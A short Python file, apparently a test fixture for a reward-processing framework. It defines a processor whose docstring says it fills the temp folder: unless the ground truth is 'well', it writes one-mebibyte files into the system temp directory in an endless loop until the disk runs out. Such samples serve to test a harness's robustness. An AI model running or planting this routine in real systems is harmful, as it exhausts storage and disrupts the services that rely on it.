"""Fills its folder for temporary files."""

import itertools
import tempfile

from strop import AbstractRewardProcessor


class F(AbstractRewardProcessor):
    def process(self, input):
        if input.ground_truth == "well":
            return {"reward": {"reward_score": 1}}
        for number in itertools.count():
            with open(f"{tempfile.gettempdir()}/{number}", "wb") as file:
                file.write(bytes(2**20))
